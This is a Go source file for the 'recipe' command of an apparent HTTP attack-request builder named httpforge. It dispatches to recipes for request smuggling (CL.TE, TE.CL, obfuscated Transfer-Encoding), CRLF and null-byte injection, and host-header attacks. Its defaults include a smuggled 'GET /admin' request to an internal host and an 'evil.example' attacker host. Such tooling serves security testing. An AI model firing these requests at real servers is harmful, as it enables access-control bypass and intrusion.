package main

import (
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/nullbyte-labs/httpforge/pkg/assembler"
	"github.com/nullbyte-labs/httpforge/pkg/recipes"
)

var recipeFlags struct {
	path            string
	host            string
	attackerHost    string
	smuggledRequest string
	headerName      string
	headerValue1    string
	headerValue2    string
	overrideMethod  string
	scheme          string
	kind            string
	size            int
	port            int
}

var recipeCmd = &cobra.Command{
	Use:   "recipe NAME",
	Short: "Build one named attack recipe and print the assembled request bytes",
	Example: "httpforge recipe smuggling-cl-te --path /\n" +
		"httpforge recipe host-header-attack --kind subdomain --host example.com --attacker-host evil",
	Args: cobra.ExactArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		var plan *assembler.Plan

		switch args[0] {
		case "smuggling-cl-te":
			plan = recipes.SmugglingCLTE(recipeFlags.path, recipeFlags.smuggledRequest)
		case "smuggling-te-cl":
			body := recipes.CreateChunkedBody(recipes.SimpleChunks(recipeFlags.smuggledRequest))
			plan = recipes.SmugglingTECL(recipeFlags.path, body)
		case "obfuscated-transfer-encoding":
			plan = recipes.ObfuscatedTransferEncoding(recipeFlags.path, recipes.ObfuscationKind(recipeFlags.kind), recipeFlags.smuggledRequest)
		case "crlf-injection":
			plan = recipes.CRLFInjection(recipeFlags.path, recipeFlags.headerValue1)
		case "duplicate-headers":
			plan = recipes.DuplicateHeaders(recipeFlags.path, recipeFlags.headerName, recipeFlags.headerValue1, recipeFlags.headerValue2)
		case "oversized-header":
			plan = recipes.OversizedHeader(recipeFlags.path, recipeFlags.headerName, recipeFlags.size)
		case "null-byte-injection":
			plan = recipes.NullByteInjection(recipeFlags.path, recipeFlags.headerValue1)
		case "method-override":
			plan = recipes.MethodOverride(recipeFlags.path, recipeFlags.overrideMethod)
		case "absolute-uri":
			plan = recipes.AbsoluteURI(recipeFlags.scheme, recipeFlags.host, recipeFlags.port, recipeFlags.path)
		case "host-header-attack":
			plan = recipes.HostHeaderAttack(recipeFlags.path, recipeFlags.host, recipeFlags.attackerHost, recipes.HostHeaderKind(recipeFlags.kind))
		case "http09-request":
			plan = recipes.HTTP09Request(recipeFlags.path)
		default:
			return fmt.Errorf("unknown recipe %q", args[0])
		}

		os.Stdout.Write(plan.Build())
		return nil
	},
}

func init() {
	recipeCmd.Flags().StringVar(&recipeFlags.path, "path", "/", "request target")
	recipeCmd.Flags().StringVar(&recipeFlags.host, "host", "example.com", "legitimate/authoritative host")
	recipeCmd.Flags().StringVar(&recipeFlags.attackerHost, "attacker-host", "evil.example", "attacker-controlled host value")
	recipeCmd.Flags().StringVar(&recipeFlags.smuggledRequest, "smuggled-request", "GET /admin HTTP/1.1\r\nHost: internal\r\n\r\n", "request or chunk data to smuggle")
	recipeCmd.Flags().StringVar(&recipeFlags.headerName, "header-name", "X-Test", "header name for duplicate/oversized recipes")
	recipeCmd.Flags().StringVar(&recipeFlags.headerValue1, "header-value", "value-1", "first header/suffix value")
	recipeCmd.Flags().StringVar(&recipeFlags.headerValue2, "header-value-2", "value-2", "second header value (duplicate-headers)")
	recipeCmd.Flags().StringVar(&recipeFlags.overrideMethod, "override-method", "DELETE", "method-override target verb")
	recipeCmd.Flags().StringVar(&recipeFlags.scheme, "scheme", "http", "absolute-uri scheme")
	recipeCmd.Flags().StringVar(&recipeFlags.kind, "kind", "", "sub-kind for obfuscated-transfer-encoding / host-header-attack")
	recipeCmd.Flags().IntVar(&recipeFlags.size, "size", 10000, "padding size for oversized-header")
	recipeCmd.Flags().IntVar(&recipeFlags.port, "port", 0, "absolute-uri port (0 or the scheme default omits it from the authority)")
	rootCmd.AddCommand(recipeCmd)
}
